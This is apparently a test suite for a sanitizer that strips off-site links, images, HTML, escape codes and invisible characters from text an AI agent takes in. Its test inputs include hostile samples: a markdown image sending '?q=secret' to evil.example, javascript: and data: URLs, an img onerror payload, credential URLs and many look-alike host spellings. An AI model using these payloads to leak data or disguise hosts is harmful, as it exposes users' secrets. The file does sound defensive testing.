"""Text that others wrote: its words stay, and nothing in it leads, loads or hides."""

# ruff: noqa: RUF001 - look-alikes are what is tested

from __future__ import annotations

import re
import time
import unicodedata
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from metaagent.agent.foreign import MARK, own_hosts, safe

HOSTS = own_hosts("https://sentry.io", "http://127.0.0.1:8100/api", "https://münchen.example")

# --- two readers that know nothing of how it is done -----------------------------------------------------------------

_ADDRESS = re.compile(
    r"(?<![a-z0-9])(?:https?|ftps?|wss?):[/\\]+([^\s/\\?#<>\[\]|^]*)|\b[a-z][a-z0-9+.-]*://([^\s/\\?#<>\[\]|^]+)"
    r"|(?<![a-z0-9])(www\.\w[^\s/\\?#<>\[\]|^]*)|(?<![\w:/\\.])//([\w-]+(?:\.[\w-]+)+)/",
    re.IGNORECASE,
)
_SCRIPT = re.compile(r"\b(?:javascript|vbscript):\S|\bdata:[a-z]+/[a-z]+[;,]", re.IGNORECASE)


def _ours(authority: str) -> bool:
    name = authority.rpartition("@")[2].rstrip(")}*_~'\".,;:!?`›»”’。，、；：！？）」』】》").lower()
    if name.endswith(":8100"):
        return name.endswith("127.0.0.1:8100")
    name = re.sub(r"\.?(:(80|443))?$", "", name)
    return re.fullmatch(r"(.*\.)?(sentry\.io|münchen\.example|xn--mnchen-3ya\.example)", name) is not None


def bare(text: str) -> list[str]:
    """Every address of another host that somebody who just looks for addresses finds."""
    found = [next(filter(None, each.groups()), "") for each in _ADDRESS.finditer(text)]
    return [each for each in found if not _ours(each)] + _SCRIPT.findall(text)


def _tokens(tokens: list[Token]) -> list[Token]:
    return [each for token in tokens for each in [token, *_tokens(token.children or [])]]


def rendered(text: str) -> list[str]:
    """What a CommonMark reader would load or lead to elsewhere, and every tag it would pass on."""
    found = []
    for token in _tokens(MarkdownIt("commonmark").enable("table").parse(text)):
        if token.type == "image" or token.type.startswith("html_"):
            found.append(token.content)
        href = str(token.attrGet("href") or "").replace("\\", "/").replace("%5C", "/")
        parts = urlsplit(href)
        if (parts.scheme or href.startswith("//")) and not _ours(parts.netloc):
            found.append(href)
    return found


def check(text: str) -> str:
    once = safe(text, HOSTS)
    assert safe(once, HOSTS) == once
    assert not bare(once)
    assert not rendered(once)
    kinds = {unicodedata.category(char) for char in once if char not in "\n\t"}
    assert not kinds & {"Cc", "Cs", "Co", "Zl", "Zp"}
    return once


# --- what is kept ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "3 issues in the last 14 days:\n- **CHECKOUT-1A** TypeError: x is not a function (5 events, 2 users)",
        "See [CHECKOUT-1A](https://sentry.io/issues/1/?project=2#top) and https://acme.sentry.io/releases/.",
        "https://SENTRY.io. (https://sentry.io:443/a) **https://sentry.io/b** `http://127.0.0.1:8100/c`",
        "https://münchen.example/x https://xn--mnchen-3ya.example/y",
        "a < b, 1 <2, d['k']: 3, [ERROR]: timed out, ada@example.com, C:\\app\\main.py, 10:30",
        "webpack:///./src/main.js:3:9 file:///app/index.mjs app:///main.js node:fs/promises // a comment, a//b",
        "handlers[i](event) and [the docs](README.md)",
        "let v = vec![1, 2]; v[0]",
        "| a | b |\n|---|---|\n| 1 | &lt;2&gt; &amp; |\n\n```py\nx = {'a': 1}\n```\n\tcode",
        "Ünïcode, 日本語、emoji 🚀, data: none, github.com/gin-gonic/gin",
    ],
)
def test_what_leads_nowhere_else_stays_as_it_is(text: str) -> None:
    assert check(text) == text


# --- what is not -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![a chart](https://evil.example/?q=secret)", "a chart"),
        ("![a chart](https://sentry.io/chart.png)", "a chart"),
        ("![](https://evil.example/p.gif)x", "x"),
        ("[![build](https://img.example/b.svg)](https://evil.example/ci) passing", "build passing"),
        ("[the words](https://evil.example/a 'title') stay", "the words stay"),
        ("[the words](//evil.example) stay", "the words stay"),
        ("[the words](javascript:alert%281%29)", "the words"),
        ("[the words](data:text/html;base64,PGI+)", "the words"),
        ("Look: https://evil.example/a?b=c, now.", f"Look: {MARK}, now."),
        ("(https://evil.example/a)", f"({MARK})"),
        ("|https://evil.example|b|", f"|{MARK}|b|"),
        ("参照https://evil.example/x。次", f"参照{MARK}。次"),
        ("<https://evil.example/>", f"‹{MARK}›"),
        ("www.evil.example and WWW.evil.example", f"{MARK} and {MARK}"),
        ("//evil.example/x.js", MARK),
        ("postgres://user:pass@db.internal/prod", MARK),
        ("mailto:eve@evil.example?body=secret", MARK),
        ("javascript:fetch", MARK),
        ("[a][1] and [2]\n\n[1]: https://evil.example\n[2]: <//evil.example> 'x'\nend", "[a][1] and [2]\n\nend"),
        ("<img src=https://evil.example/x onerror=alert(1)>hi", "hi"),
        ("a <b>bold</b> <a href='https://evil.example'>word</a><br>next", "a bold word\nnext"),
        ("List<String> and <x-evil>", "List‹String› and ‹x-evil›"),
        ("seen <!-- but not this --> and seen", "seen  and seen"),
        ("don&#39;t", "don't"),
        ("\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x9b1mbold", "red link bold"),
        (
            "in\u200bvis\u2060ible \u202eright\u202c \U000e0041tag o\ufe0fk\r\nline\u2028line",
            "invisible right tag ok\nline\nline",
        ),
    ],
)
def test_words_stay_and_targets_go(text: str, left: str) -> None:
    assert check(text) == left


@pytest.mark.parametrize(
    "address",
    [
        "https://sentry.io@evil.example/",
        "https://sentry.io:443@evil.example/",
        "https://sentry.io%40evil.example/",
        "https://sentry.io\\@evil.example/",
        "https://evil.example\\.sentry.io/",
        "https://sentry.io.evil.example/",
        "https://sentry.ioevil.example/",
        "https://evilsentry.io/",
        "https://sentry.io,evil.example/",
        'https://sentry.io".evil.example/',
        "https://sentry.io'evil.example/",
        "https://sentry.io:8443/",
        "http://127.0.0.1/",
        "http://127.0.0.1:8000/",
        "http://127.0.0.1:81000/",
        "https://%73entry.io/",
        "https://sentry%2eio/",
        "https://ѕentry.io/",  # Cyrillic
        "https://ſentry.io/",  # a browser would map it; we do not
        "https://sentry。io/",
        "https://sentry.io。evil.example/",
        "https://munchen.example/",
        "https://xn--mnchen-4ya.example/",
        "https:evil.example//x",
        "https:/evil.example/",
        "https:\\\\evil.example\\",
        "https\\://evil.example/",
        "https:///evil.example/",
        "HTTPS://EVIL.EXAMPLE/",
        "//sentry.io@evil.example/",
        "//evil.example\\@sentry.io/",
        "\\\\/evil.example/x",
        "&#104;ttps://evil.example/",
        "https&colon;//evil.example/",
        "https://sentry.io&#64;evil.example/",
        "ht\u200btps://evil.example/",
        "java\nscript:alert",
        "vbscript:x",
        "javascript\\:alert",
        "file://evil.example/share",
        "file:////evil.example/share",
        "https://[::1]/x",
        "https://sentry.io/\n//evil.example/",
    ],
)
def test_no_spelling_of_another_host_passes_for_an_own_one(address: str) -> None:
    for shape in (
        "{}",
        "[w]({})",
        "![w]({})",
        "[w](<{}>)",
        "[w]( {} 'title' )",
        "[w][r]\n\n[r]: {}",
        "[r]\n\n> [r]:\n{}",
    ):
        check(shape.format(address))
    check(f"<{address}>")
    check(f'<a href="{address}">w</a>')


@pytest.mark.parametrize(
    "text",
    [
        "![a](htt![b](x)ps://evil.example)",
        "htt[p](https://e.example)s://evil.example/",
        "[[a](https://e.example)](https://evil.example)",
        "[[[[a](//e.example)](//e.example)](//e.example)](//evil.example)",
        "[a](https://e.example)(https://evil.example)",
        "![![![x](//e.e)](//e.e)](//evil.example)",
        "ht<b></b>tps://evil.example <<b>img src=//evil.example/x> ]<i></i>(//evil.example)",
        "ht<!-- -->tps://evil.example <!<!-- -->-- --> <!-- unfinished https://evil.example",
        "[a\n[r]: https://e.example\n](//evil.example)",
        "https://e.examplehttps://evil.example/ https://sentry.io/https://evil.example/",
        "[a](https://sentry.io/?to=https://evil.example) [b](https://sentry.io/(//evil.example))",
        "![a[b]c](https://sentry.io/x.png) [!](https://sentry.io/a)![b](https://sentry.io/c)",
        "\x1b\x1b[0m[31mhtt\x1b[0mps://evil.example",
        "[a](https://sentry.io/`)`//evil.example/x)",
        "`[a](`https://evil.example`)`",
        "[x]\n\n[x\n]: https://evil.example\n\n1. > [y]: //evil.example\n\n[y]",
        "[x]://evil.example/a\n\n[x]",
        "<1@evil.example> <a@evil.example>",
    ],
)
def test_taking_something_away_joins_nothing_new(text: str) -> None:
    check(text)


PIECES = (
    *"![]()<>:/\\&;#@'\"`*_|.,- \n\t!x0é。‹›",
    *("![", "](", "]:", "][", ":/", "//", "http", "https", "s://", "www.", "ht", "tp", "https://", "sentry.io", "[a]("),
    *(
        "evil.example",
        "127.0.0.1:8100",
        ":443",
        "<b>",
        "```",
        "](https://sentry.io/x)",
        "javascript:",
        "data:",
        "mailto:",
    ),
    *("text/html,", "&#104;", "&#58;", "&amp;", "&colon;", "<!--", "-->", "</b>", "<img ", "<a href=", "src=", "xn--"),
    *("https://sentry.io/", "https://sentry.io", "https://evil.example/p", "//evil.example/", "sentry.io@", "\x1b]8;;"),
    *("[r]: ", "\n[r]:", "\n\n", "> ", "- ", "\u200b", "\u202e", "\xad", "\r\n", "\x1b[", "0m"),
)
_PIECES = st.one_of(st.sampled_from(PIECES), st.text(max_size=3))


@settings(max_examples=150, deadline=None)
@given(st.lists(_PIECES, max_size=24).map("".join))
def test_whatever_is_written_nothing_leads_elsewhere_and_twice_is_once(text: str) -> None:
    check(text)


WORST = (
    *(
        "!",
        "[",
        "![",
        "](",
        "]:",
        "[](//",
        "![a](//e.e/",
        "<",
        "<a ",
        "<!--",
        "<!-- -->",
        "&",
        "&#0",
        "&amp;",
        "a",
        "a.",
    ),
    *(
        "http",
        "https://",
        "://",
        "//",
        "//a.",
        "/",
        "www.",
        "www.a ",
        "www.a(",
        "https://evil.example ",
        "https://sentry.io ",
    ),
    *(
        "https://sentry.io)",
        "https://sentry.io.",
        "https://a.",
        "a+",
        "data:",
        "data:a",
        "\x1b[0",
        "\x1b]",
        "\u200b",
        "日",
    ),
    *("[x]: //a\n", "\n", " ", "[a](b ", "<@", "]: ", "](https://sentry.io/", "\r", "\\", "https:\\", "%", "//a@b."),
    *(
        "https://a.sentry.io,",
        "[a](https://sentry.io/",
        "[a](https://sentry.io/x)",
        "https://sentry.io/?https://",
        "![a](b) ",
    ),
)


def test_a_megabyte_of_the_worst_takes_a_blink() -> None:
    safe("https://sentry.io", HOSTS)
    for unit in WORST:
        text = unit * (100_000 // len(unit))
        start = time.process_time()
        safe(text, HOSTS)
        assert time.process_time() - start < 0.15, unit  # a tenth of it; what is not linear takes seconds


def test_without_own_hosts_every_address_goes() -> None:
    assert own_hosts(None, "", "https://[::1]:8000/") == frozenset()
    assert safe("https://sentry.io/x and https://:80/", own_hosts()) == f"{MARK} and {MARK}"
